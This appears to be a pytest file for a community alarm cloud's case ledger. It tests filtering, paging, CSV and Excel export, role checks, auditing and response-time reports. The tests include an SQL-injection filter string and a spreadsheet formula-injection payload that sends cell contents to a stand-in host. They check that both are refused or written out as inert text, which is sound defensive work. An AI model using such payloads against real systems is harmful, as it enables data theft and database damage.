"""The ledger (台账) and its report against a running cloud: cases raised through the real
broker and worked through the API are found by their filters, paged, exported as CSV and
Excel that open again with the right rows; a known set of cases with precise timings
(written by the alarm book on a clock the test sets, then served by the real cloud) gives a
report equal to figures worked out by hand; wrong roles and bad filters are refused."""

from __future__ import annotations

import csv
import io
import json
import math
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from cloud.alarms.model import FalseAlarmCause, Outcome
from cloud.ledger import export as ledger_export
from cloud.ledger import queries as ledger_queries
from cloud.ledger.reports import percentile
from cloud.rules import AlarmDraft, Clear
from tests.cloud.conftest import (
    Publisher,
    RunningCloud,
    cloud_settings,
    eventually,
    forget_gateway_status,
    running_cloud,
    signed_in,
)
from tests.cloud.helpers import FakeClock, book_parts
from tests.cloud.ingest.test_ingest import active, event
from tests.servers import Mosquitto

BEIJING = timezone(timedelta(hours=8))


async def ledger(client: httpx.AsyncClient, **params: Any) -> dict[str, Any]:
    resp = await client.get("/api/ledger", params=params)
    assert resp.status_code == 200, resp.text
    return resp.json()


def ids(page: dict[str, Any]) -> list[int]:
    return [row["id"] for row in page["items"]]


# ---- through the real broker ------------------------------------------------------------------


async def raise_through_broker(
    client: httpx.AsyncClient, gw: Publisher, n_before: int, **body: Any
) -> dict[str, Any]:
    gw.publish("sc/v1/gw-ld01/event", event(**body))

    async def arrived() -> dict[str, Any] | None:
        found = await ledger(client, include_tests=True)
        return found["items"][0] if found["total"] == n_before + 1 else None

    return await eventually(arrived)


async def test_cases_from_the_broker_are_found_filtered_paged_and_exported(
    cloud: RunningCloud, operator: httpx.AsyncClient, gw1: Publisher
) -> None:
    call = await raise_through_broker(
        operator, gw1, 0, device="call-0101", kind="call", type="press"
    )
    fault = await raise_through_broker(
        operator, gw1, 1, device="gas-0101", kind="gas", type="fault"
    )
    smoke = await raise_through_broker(operator, gw1, 2, device="smoke-0102", type="alarm")
    assert len(await active(operator)) == 3

    # the call is worked as a duty room would: accept, dispatch, feedback, resolve
    url = f"/api/alarms/{call['id']}"
    assert (await operator.post(f"{url}/accept")).status_code == 200
    sent = await operator.post(f"{url}/dispatch", json={"to": "网格员 李网格", "note": "上门"})
    assert sent.status_code == 200
    fed = await operator.post(f"{url}/feedback", json={"note": "老人摔倒，已送医"})
    assert fed.status_code == 200
    done = await operator.post(f"{url}/resolve", json={"outcome": "handled", "note": "已处置"})
    assert done.status_code == 200
    # the fault turns out to be nothing
    url = f"/api/alarms/{fault['id']}"
    assert (await operator.post(f"{url}/accept")).status_code == 200
    done = await operator.post(
        f"{url}/resolve",
        json={"outcome": "false_alarm", "cause": "device_fault", "note": "传感器受潮"},
    )
    assert done.status_code == 200

    everything = await ledger(operator)
    assert everything["total"] == 3
    assert ids(everything) == [smoke["id"], fault["id"], call["id"]]  # newest first
    row = everything["items"][2]
    assert (row["level_name"], row["kind"], row["title_zh"]) == ("I", "call", "一键呼叫求助")
    assert (row["community"], row["grid"], row["building"]) == (
        "红星社区",
        "第一网格",
        "红星小区1栋",
    )
    assert (row["home"], row["device"], row["model"]) == (
        "1单元101",
        "call-0101",
        "call_button_gpio",
    )
    assert (row["accepted_by"], row["dispatched_to"], row["resolved_by"]) == (
        "op",
        "网格员 李网格",
        "op",
    )
    assert row["feedback"] == "老人摔倒，已送医"
    assert row["dispatch_notes"] == "网格员 李网格: 上门"  # whom, and the dispatch's note
    assert row["verify_note"] == ""  # not verified yet
    assert (row["outcome"], row["note"], row["state"]) == ("handled", "已处置", "resolved")
    assert row["budget_s"] == 60 and row["policy"] == "life_safety"
    received, accepted, resolved = (
        datetime.fromisoformat(row[k]) for k in ("received_at", "accepted_at", "resolved_at")
    )
    assert row["time_to_accept_s"] == pytest.approx((accepted - received).total_seconds(), abs=1e-3)
    assert row["time_to_resolve_s"] == pytest.approx(
        (resolved - received).total_seconds(), abs=1e-3
    )

    # each filter returns exactly its cases
    assert ids(await ledger(operator, kind="call")) == [call["id"]]
    assert ids(await ledger(operator, kind=["call", "gas"])) == [fault["id"], call["id"]]
    assert ids(await ledger(operator, level="III")) == [fault["id"]]
    assert ids(await ledger(operator, level=[1])) == [smoke["id"], call["id"]]
    assert ids(await ledger(operator, level=[1, "I", "Ⅰ"])) == [smoke["id"], call["id"]]
    assert ids(await ledger(operator, outcome="false_alarm")) == [fault["id"]]
    assert ids(await ledger(operator, state="active")) == [smoke["id"]]
    assert ids(await ledger(operator, state=["resolved"], level="I")) == [call["id"]]
    assert ids(await ledger(operator, community="sq-hongxing")) == ids(everything)
    assert (await ledger(operator, community="sq-elsewhere"))["total"] == 0
    # the Beijing days of the first and the last case (the same day but a few seconds a year)
    first_day = datetime.fromisoformat(call["received_at"]).astimezone(BEIJING).date()
    last_day = datetime.fromisoformat(smoke["received_at"]).astimezone(BEIJING).date()
    day_before = first_day - timedelta(days=1)
    assert (await ledger(operator, date_from=first_day.isoformat()))["total"] == 3
    assert (await ledger(operator, date_from=first_day.isoformat(), date_to=last_day.isoformat()))[
        "total"
    ] == 3
    assert (await ledger(operator, date_to=day_before.isoformat()))["total"] == 0
    since_fault = datetime.fromisoformat(fault["received_at"])
    assert ids(await ledger(operator, date_from=since_fault.isoformat())) == [
        smoke["id"],
        fault["id"],
    ]
    assert ids(await ledger(operator, date_to=since_fault.isoformat())) == [call["id"]]

    # pages of one, with the total
    pages = [await ledger(operator, page=n, page_size=1) for n in (1, 2, 3, 4)]
    assert [p["total"] for p in pages] == [3, 3, 3, 3] and pages[0]["pages"] == 3
    assert [ids(p) for p in pages] == [[smoke["id"]], [fault["id"]], [call["id"]], []]

    # CSV: BOM, Chinese headers, the same rows in the same order, times in Beijing time
    resp = await operator.get("/api/ledger/export.csv", params={"kind": ["call", "gas"]})
    assert resp.status_code == 200
    assert resp.headers["content-type"].startswith("text/csv")
    assert "attachment" in resp.headers["content-disposition"]
    assert resp.content.startswith(b"\xef\xbb\xbf")
    table = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    header, *lines = table
    assert header[:4] == ["案件编号", "级别", "类型", "告警"]
    assert {"受理人", "派给", "情况反馈", "处置结果", "办结用时（秒）", "督办核实时间"} <= set(
        header
    )
    assert [int(line[0]) for line in lines] == [fault["id"], call["id"]]
    by_name = dict(zip(header, lines[1], strict=True))
    assert by_name["级别"] == "Ⅰ级" and by_name["类型"] == "一键呼叫"
    assert by_name["派给"] == "网格员 李网格" and by_name["处置结果"] == "已处置"
    assert by_name["情况反馈"] == "老人摔倒，已送医" and by_name["时限内受理"] in ("是", "否")
    assert by_name["接收时间（北京时间）"] == received.astimezone(BEIJING).strftime(
        "%Y-%m-%d %H:%M:%S"
    )
    fault_line = dict(zip(header, lines[0], strict=True))
    assert (fault_line["处置结果"], fault_line["误报原因"]) == ("误报", "设备故障")
    assert fault_line["处置说明"] == "传感器受潮"
    english = await operator.get("/api/ledger/export.csv", params={"lang": "en", "kind": "gas"})
    header, line = list(csv.reader(io.StringIO(english.content.decode("utf-8-sig"))))
    assert header[:4] == ["Case no.", "Level", "Kind", "Alarm"]
    fault_line = dict(zip(header, line, strict=True))
    assert (fault_line["Outcome"], fault_line["False-alarm cause"]) == (
        "false alarm",
        "device fault",
    )

    # Excel: the same rows; times are real datetimes (Beijing time); a summary sheet
    resp = await operator.get("/api/ledger/export.xlsx", params={"state": "resolved"})
    assert resp.status_code == 200
    assert resp.headers["content-type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(resp.content))
    assert book.sheetnames == ["台账", "汇总"]
    sheet = book["台账"]
    values = list(sheet.iter_rows(values_only=True))
    header = list(values[0])
    assert header[0] == "案件编号" and "接收时间（北京时间）" in header
    assert [r[0] for r in values[1:]] == [fault["id"], call["id"]]
    call_row = dict(zip(header, values[2], strict=True))
    assert isinstance(call_row["接收时间（北京时间）"], datetime)
    assert abs(
        call_row["接收时间（北京时间）"] - received.astimezone(BEIJING).replace(tzinfo=None)
    ) < timedelta(milliseconds=1)
    assert isinstance(call_row["办结时间"], datetime)
    assert call_row["受理人"] == "op" and call_row["派给"] == "网格员 李网格"
    assert isinstance(call_row["办结用时（秒）"], float)
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold
    summary = {r[0]: r[1] for r in book["汇总"].iter_rows(values_only=True) if r}
    assert summary["导出人"] == "op" and summary["记录数"] == 2
    assert summary["state"] == "resolved"

    # both exports are in the audit, with who and which filter
    supervisor = await signed_in(cloud.url, "sup")
    try:
        entries = (await supervisor.get("/api/audit", params={"action": "ledger_export"})).json()
    finally:
        await supervisor.aclose()
    details = [(e["actor"], json.loads(e["detail"])) for e in entries]
    assert (
        "op",
        {"format": "xlsx", "lang": "zh", "filter": {"state": ["resolved"]}, "rows": 2},
    ) in details
    assert (
        "op",
        {"format": "csv", "lang": "zh", "filter": {"kind": ["call", "gas"]}, "rows": 2},
    ) in details
    assert len(details) == 3


async def test_test_mode_alarms_only_when_asked(
    cloud: RunningCloud, operator: httpx.AsyncClient, gw1: Publisher
) -> None:
    installer = await signed_in(cloud.url, "inst")
    try:
        window = await installer.post(
            "/api/walktests", json={"gateway": "gw-ld01", "minutes": 30, "note": "巡检"}
        )
    finally:
        await installer.aclose()
    assert window.status_code == 201, window.text
    # a fault (a smoke alarm would go live: life safety is never muted by a walk test)
    gw1.publish("sc/v1/gw-ld01/event", event(device="smoke-0102", type="fault"))
    found = await eventually(lambda: _nonempty(ledger(operator, include_tests=True)))
    assert found["items"][0]["mode"] == "walk_test"
    assert (await ledger(operator))["total"] == 0


async def _nonempty(pending: Any) -> dict[str, Any] | None:
    page = await pending
    return page if page["total"] else None


# ---- who may, and what is refused -----------------------------------------------------------


async def test_signed_out_is_401_and_installer_403(cloud: RunningCloud) -> None:
    paths = [
        "/api/ledger",
        "/api/ledger/options",
        "/api/ledger/report",
        "/api/ledger/export.csv",
        "/api/ledger/export.xlsx",
    ]
    async with httpx.AsyncClient(base_url=cloud.url, timeout=10) as stranger:
        for path in paths:
            assert (await stranger.get(path)).status_code == 401, path
    installer = await signed_in(cloud.url, "inst")
    try:
        for path in paths:
            resp = await installer.get(path)
            assert resp.status_code == 403, path
            assert "installer" in resp.json()["detail"]
    finally:
        await installer.aclose()
    for user in ("sup", "adm"):
        client = await signed_in(cloud.url, user)
        try:
            assert (await client.get("/api/ledger")).status_code == 200
        finally:
            await client.aclose()


@pytest.mark.parametrize(
    ("params", "reason"),
    [
        ({"date_from": "2026-03-05", "date_to": "2026-03-04"}, "is not before date_to"),
        ({"date_from": "2026-03-05T10:00", "date_to": "2026-03-05T09:00"}, "is not before"),
        ({"date_from": "yesterday"}, "neither a date"),
        ({"date_to": "2026-13-01"}, "not a date"),
        ({"date_to": "1350-04-19T09:31:21Z"}, "out of range"),
        ({"date_from": "9999-12-31"}, "out of range"),
        ({"level": "V"}, "level"),
        ({"level": "0"}, "greater than or equal to 1"),
        ({"kind": "fire"}, "kind"),
        ({"outcome": "lost"}, "outcome"),
        ({"state": "closed"}, "state"),
        ({"community": "'; DROP TABLE alarms; --"}, "pattern"),
        ({"page": "0"}, "page"),
        ({"page_size": "100000"}, "page_size"),
        ({"colour": "red"}, "colour"),
    ],
)
async def test_bad_filters_are_refused_with_a_reason(
    cloud: RunningCloud, operator: httpx.AsyncClient, params: dict[str, str], reason: str
) -> None:
    resp = await operator.get("/api/ledger", params=params)
    assert resp.status_code == 422
    assert reason in json.dumps(resp.json()["detail"], ensure_ascii=False)
    for path in ("/api/ledger/report", "/api/ledger/export.csv", "/api/ledger/export.xlsx"):
        assert (await operator.get(path, params=params)).status_code == 422, path
    # nothing refused was exported, so nothing is in the audit
    assert not await operator_exports(cloud)


async def operator_exports(cloud: RunningCloud) -> list[Any]:
    return await cloud.cloud.audit.recent(100, "ledger_export")


# ---- a known set of cases, timed to the second -------------------------------------------------

#: 2026-03-02 09:00 in Beijing (01:00 UTC)
B = datetime(2026, 3, 2, 9, 0, tzinfo=BEIJING).timestamp()
#: 2026-03-03 07:00 in Beijing: still 2 March in UTC
NEXT_MORNING = datetime(2026, 3, 3, 7, 0, tzinfo=BEIJING).timestamp()


TITLES = {
    "call_for_help": ("一键呼叫求助", "Emergency call"),
    "smoke_alarm": ("烟雾报警", "Smoke alarm"),
    "heat_rising": ("温度骤升", "Temperature rising fast"),
    "device_fault": ("设备故障", "Device fault"),
    "battery_low": ("电量低", "Battery low"),
}


def draft(rule: str, level: int, kind: str, gateway: str, device: str, at: float) -> AlarmDraft:
    return AlarmDraft(
        rule,
        level,
        kind,
        gateway,
        device,
        *TITLES[rule],
        datetime.fromtimestamp(at, UTC),
        life_safety=level == 1,
    )


#: (name, draft, accepted after s, resolved after s, outcome) — see the hand-worked report
CASES: list[tuple[str, AlarmDraft, float | None, float | None, Outcome | None]] = [
    ("a1", draft("call_for_help", 1, "call", "gw-ld01", "call-0101", B), 10, 100, Outcome.HANDLED),
    (
        "a2",
        draft("call_for_help", 1, "call", "gw-ld02", "call-0101", B + 1000),
        30,
        400,
        Outcome.FALSE_ALARM,
    ),
    (
        "a3",
        draft("call_for_help", 1, "call", "gw-ld01", "call-0101", B + 2000),
        90,
        900,
        Outcome.HANDLED,
    ),
    (
        "a4",
        draft("smoke_alarm", 1, "smoke", "gw-ld01", "smoke-0102", B + 3000),
        45,
        200,
        Outcome.FALSE_ALARM,
    ),
    # level II, but the fire policy names this rule: a 60 s budget, not the level's 300 s
    (
        "a5",
        draft("heat_rising", 2, "air", "gw-ld02", "air-0101", B + 3500),
        120,
        600,
        Outcome.HANDLED,
    ),
    (
        "b1",
        draft("device_fault", 3, "gas", "gw-ld01", "gas-0101", B + 4000),
        4000,
        5000,
        Outcome.HANDLED,
    ),
    (
        "b2",
        draft("device_fault", 3, "smoke", "gw-ld02", "smoke-0301", B + 5000),
        100,
        150,
        Outcome.FALSE_ALARM,
    ),
    (
        "b3",
        draft("device_fault", 3, "air", "gw-ld01", "air-0201", B + 6000),
        None,
        50,
        Outcome.CLEARED,
    ),
    ("c1", draft("battery_low", 4, "call", "gw-ld01", "call-0101", NEXT_MORNING), 20, None, None),
]


async def write_known_cases(database: Path | str) -> dict[str, int]:
    """The cases above written by the alarm book on a clock the test sets, plus one alarm of
    a walk test, into `database` (a path or URL); returns their ids by name."""
    clock = FakeClock(B)
    made: dict[str, int] = {}
    async with book_parts(database, clock) as parts:
        for name, d, accept_after, resolve_after, outcome in CASES:
            at = d.device_ts.timestamp()
            clock.now = at
            [raised] = await parts.book.apply([d], at)
            alarm_id = made[name] = raised.alarm.id
            if accept_after is not None:
                clock.now = at + accept_after
                await parts.casework.accept(alarm_id, "op")
            if outcome is Outcome.CLEARED:
                clock.now = at + (resolve_after or 0)
                clear = Clear(
                    d.rule, d.gateway, d.device, datetime.fromtimestamp(clock.now, UTC), "restored"
                )
                await parts.book.apply([clear], clock.now)
            elif resolve_after is not None and outcome is not None:
                clock.now = at + resolve_after
                cause = FalseAlarmCause.MISTOUCH if name == "a2" else FalseAlarmCause.COOKING
                await parts.casework.resolve(
                    alarm_id,
                    "op",
                    outcome,
                    f"{name} 处置",
                    cause if outcome is Outcome.FALSE_ALARM else None,
                )
        clock.now = B + 500
        test = AlarmDraft(
            "smoke_alarm",
            1,
            "smoke",
            "gw-ld01",
            "smoke-0102",
            "烟雾报警",
            "Smoke",
            datetime.fromtimestamp(B + 500, UTC),
            mode="walk_test",
            window=1,
        )
        [raised] = await parts.book.apply([test], B + 500)
        made["test"] = raised.alarm.id
    return made


@pytest.fixture
async def known_cases(
    tmp_path: Path, mosquitto: Mosquitto, database_url: str
) -> AsyncIterator[tuple[RunningCloud, dict[str, int]]]:
    """The known cases, then the real cloud opened on their database."""
    made = await write_known_cases(database_url)
    forget_gateway_status(mosquitto)
    async with running_cloud(cloud_settings(tmp_path, mosquitto, database=database_url)) as running:
        yield running, made


async def test_an_export_too_large_is_refused_with_the_count(
    known_cases: tuple[RunningCloud, dict[str, int]], monkeypatch: pytest.MonkeyPatch
) -> None:
    running, _ = known_cases
    monkeypatch.setitem(ledger_export.EXPORT_MAX_ROWS, "xlsx", 5)
    client = await signed_in(running.url, "op")
    try:
        refused = await client.get("/api/ledger/export.xlsx")
        assert refused.status_code == 413
        assert refused.json()["detail"].startswith(
            "9 cases match; an export as xlsx holds at most 5"
        )
        narrowed = await client.get("/api/ledger/export.xlsx", params={"level": "I"})
        assert narrowed.status_code == 200
        assert (await client.get("/api/ledger/export.csv")).status_code == 200
    finally:
        await client.aclose()
    exports = await running.cloud.audit.recent(10, "ledger_export")
    assert [json.loads(e.detail)["rows"] for e in exports] == [9, 4]  # the refusal is not one


def test_nearest_rank_percentiles_against_hand_computed_values() -> None:
    values = [float(v) for v in (15, 20, 35, 40, 50)]  # the textbook example, shuffled below
    shuffled = [values[i] for i in (3, 0, 4, 2, 1)]
    assert percentile(shuffled, 5) == 15  # rank ceil(0.25) = 1
    assert percentile(shuffled, 30) == 20  # rank ceil(1.5) = 2
    assert percentile(shuffled, 40) == 20  # rank ceil(2.0) = 2
    assert percentile(shuffled, 50) == 35  # rank ceil(2.5) = 3
    assert percentile(shuffled, 100) == 50
    hundred = [float(v) for v in range(1, 101)]
    assert (percentile(hundred, 50), percentile(hundred, 90), percentile(hundred, 99)) == (
        50,
        90,
        99,
    )
    assert percentile([7.0], 99) == 7.0
    assert percentile([], 50) is None
    with pytest.raises(ValueError):
        percentile(values, 0)
    assert math.isclose(percentile([0.5, 0.25], 50) or 0, 0.25)


async def test_report_equals_the_hand_worked_figures(
    known_cases: tuple[RunningCloud, dict[str, int]],
) -> None:
    running, made = known_cases
    client = await signed_in(running.url, "sup")
    try:
        resp = await client.get(
            "/api/ledger/report", params={"date_from": "2026-03-02", "date_to": "2026-03-03"}
        )
        assert resp.status_code == 200, resp.text
        report = resp.json()
        level_one_only = (await client.get("/api/ledger/report", params={"level": "I"})).json()
        day_one = await ledger(client, date_from="2026-03-02", date_to="2026-03-02")
        with_tests = await ledger(client, include_tests=True)
    finally:
        await client.aclose()

    assert report["count"] == 9 and "nearest rank" in report["percentile_method"]
    levels = {lv["level_name"]: lv for lv in report["levels"]}
    assert list(levels) == ["I", "II", "III", "IV"]

    one = levels["I"]  # TTA 10, 30, 90, 45; TTR 100, 400, 900, 200; budget 60 s
    assert (one["count"], one["accepted"], one["resolved"], one["false_alarms"]) == (4, 4, 4, 2)
    assert one["time_to_accept_s"] == {"n": 4, "p50": 30, "p90": 90, "p99": 90}
    assert one["time_to_resolve_s"] == {"n": 4, "p50": 200, "p90": 900, "p99": 900}
    assert one["budget"] == {
        "within": 3,
        "missed": 1,
        "undecided": 0,
        "pct_within": 75.0,
        "budgets_s": [60],
    }

    two = levels["II"]  # heat_rising under the fire policy: 120 s > 60 s
    assert two["time_to_accept_s"] == {"n": 1, "p50": 120, "p90": 120, "p99": 120}
    assert two["budget"]["pct_within"] == 0.0 and two["budget"]["budgets_s"] == [60]

    three = levels["III"]  # TTA 4000 (late), 100; b3 cleared by the system within budget
    assert three["time_to_accept_s"] == {"n": 2, "p50": 100, "p90": 4000, "p99": 4000}
    assert three["time_to_resolve_s"] == {"n": 2, "p50": 150, "p90": 5000, "p99": 5000}
    assert three["budget"] == {
        "within": 1,
        "missed": 1,
        "undecided": 1,
        "pct_within": 50.0,
        "budgets_s": [3600],
    }
    assert (three["resolved"], three["open"]) == (3, 0)

    four = levels["IV"]  # accepted after 20 s, still open
    assert (four["count"], four["open"], four["resolved"]) == (1, 1, 0)
    assert four["time_to_accept_s"]["p50"] == 20 and four["time_to_resolve_s"]["n"] == 0
    assert four["time_to_resolve_s"]["p50"] is None
    assert four["budget"]["pct_within"] == 100.0

    total = report["total"]  # TTA sorted 10 20 30 45 90 100 120 4000
    assert total["time_to_accept_s"] == {"n": 8, "p50": 45, "p90": 4000, "p99": 4000}
    # TTR sorted 100 150 200 400 600 900 5000 (the cleared case is the system's, left out)
    assert total["time_to_resolve_s"] == {"n": 7, "p50": 400, "p90": 5000, "p99": 5000}
    assert total["budget"]["within"] == 5 and total["budget"]["missed"] == 3
    assert total["budget"]["pct_within"] == 62.5

    by_model = [
        (r["key"], r["resolved"], r["false_alarms"], r["rate_pct"]) for r in report["by_model"]
    ]
    assert by_model == [
        ("smoke_dry_contact", 2, 2, 100.0),
        ("call_button_gpio", 3, 1, 33.33),
        ("air_pms5003", 2, 0, 0.0),
        ("gas_mcp3008", 1, 0, 0.0),
    ]
    by_building = [
        (r["key"], r["label"], r["resolved"], r["rate_pct"]) for r in report["by_building"]
    ]
    assert by_building == [
        ("ld-02", "红星社区 红星小区2栋", 3, 66.67),
        ("ld-01", "红星社区 红星小区1栋", 5, 20.0),
    ]

    causes = [(c["cause"], c["count"], c["share_pct"]) for c in report["false_alarm_causes"]]
    assert causes == [("cooking", 2, 66.67), ("mistouch", 1, 33.33)]
    assert level_one_only["count"] == 4 and level_one_only["levels"][1]["count"] == 0

    # a date is a day in Beijing: c1 at 07:00 on 3 March (still 2 March in UTC) is not on
    # 2 March; the walk test's alarm only when asked for
    assert made["c1"] not in ids(day_one) and day_one["total"] == 8
    assert with_tests["total"] == 10 and made["test"] in ids(with_tests)


# ---- what operators typed, exported safely ------------------------------------------------------

#: Typed into a case by an operator (or written before the API refused control characters):
#: each would be a live formula in a spreadsheet, or (\x0b, \x1b) break an Excel export.
HOSTILE = {
    "note": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "dispatched_to": "+120",
    "feedback": "－1+2",  # full-width minus
    "control": "门铃\x0b坏了\x1b",
}


@pytest.fixture
async def hostile_cases(
    tmp_path: Path, mosquitto: Mosquitto, database_url: str
) -> AsyncIterator[tuple[RunningCloud, dict[str, int]]]:
    clock = FakeClock(B)
    made: dict[str, int] = {}
    async with book_parts(database_url, clock) as parts:
        [formula] = await parts.book.apply(
            [draft("call_for_help", 1, "call", "gw-ld01", "call-0101", B)], B
        )
        made["formula"] = formula.alarm.id
        await parts.casework.accept(formula.alarm.id, "op")
        await parts.casework.dispatch(formula.alarm.id, "op", HOSTILE["dispatched_to"], "")
        await parts.casework.feedback(formula.alarm.id, "op", HOSTILE["feedback"])
        await parts.casework.resolve(formula.alarm.id, "op", Outcome.HANDLED, HOSTILE["note"])
        clock.now = B + 60
        [control] = await parts.book.apply(
            [draft("smoke_alarm", 1, "smoke", "gw-ld01", "smoke-0102", B + 60)], B + 60
        )
        made["control"] = control.alarm.id
        await parts.casework.accept(control.alarm.id, "op")
        await parts.casework.resolve(control.alarm.id, "op", Outcome.HANDLED, HOSTILE["control"])
        await parts.casework.verify(control.alarm.id, "sup", "回访属实")
    forget_gateway_status(mosquitto)
    async with running_cloud(cloud_settings(tmp_path, mosquitto, database=database_url)) as running:
        yield running, made


def _column(name: str) -> int:
    return [c[0] for c in ledger_export.COLUMNS].index(name)


async def test_exports_write_typed_text_as_text_never_as_a_formula(
    hostile_cases: tuple[RunningCloud, dict[str, int]],
) -> None:
    running, made = hostile_cases
    client = await signed_in(running.url, "op")
    try:
        xlsx = await client.get("/api/ledger/export.xlsx", params={"lang": "en"})
        csv_resp = await client.get("/api/ledger/export.csv", params={"lang": "en"})
    finally:
        await client.aclose()
    # one control character used to make every Excel export of the range fail (500)
    assert xlsx.status_code == 200, xlsx.text
    assert csv_resp.status_code == 200, csv_resp.text

    sheet = load_workbook(io.BytesIO(xlsx.content))["Ledger"]
    rows = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    formula = rows[made["formula"]]
    for field in ("note", "dispatched_to", "feedback"):
        cell = formula[_column(field)]
        assert cell.value == HOSTILE[field], field  # the text as typed …
        assert cell.data_type == "s", field  # … and a string, not a formula
    control = rows[made["control"]]
    assert control[_column("note")].value == "门铃坏了"  # control characters dropped
    assert control[_column("note")].data_type == "s"

    text = csv_resp.content.decode("utf-8-sig")
    by_id = {int(r[0]): r for r in list(csv.reader(io.StringIO(text)))[1:]}
    row = by_id[made["formula"]]
    for field in ("note", "dispatched_to", "feedback"):
        assert row[_column(field)] == "'" + HOSTILE[field], field
    assert by_id[made["control"]][_column("note")] == "门铃坏了"
    # the supervisor's note and the dispatch's are in the export too
    assert by_id[made["control"]][_column("verify_note")] == "回访属实"
    assert row[_column("dispatch_notes")].startswith("'")  # typed text, kept as text


async def test_the_ledger_filters_verified_and_unverified_cases(
    hostile_cases: tuple[RunningCloud, dict[str, int]],
) -> None:
    running, made = hostile_cases
    client = await signed_in(running.url, "sup")
    try:
        assert ids(await ledger(client, verified=True)) == [made["control"]]
        assert ids(await ledger(client, verified="false")) == [made["formula"]]
        assert len(ids(await ledger(client))) == 2
        bad = await client.get("/api/ledger", params={"verified": "maybe"})
        assert bad.status_code == 422 and "verified" in bad.text
        options = (await client.get("/api/ledger/report", params={"verified": "true"})).json()
        assert options["count"] == 1
    finally:
        await client.aclose()


async def test_a_report_too_large_is_refused_with_the_count(
    known_cases: tuple[RunningCloud, dict[str, int]], monkeypatch: pytest.MonkeyPatch
) -> None:
    running, _ = known_cases
    monkeypatch.setattr(ledger_queries, "REPORT_MAX_ROWS", 5)
    client = await signed_in(running.url, "sup")
    try:
        refused = await client.get("/api/ledger/report")
        assert refused.status_code == 413
        assert refused.json()["detail"].startswith("9 cases match; a report covers at most 5")
        narrowed = await client.get("/api/ledger/report", params={"level": "I"})
        assert narrowed.status_code == 200 and narrowed.json()["count"] == 4
    finally:
        await client.aclose()
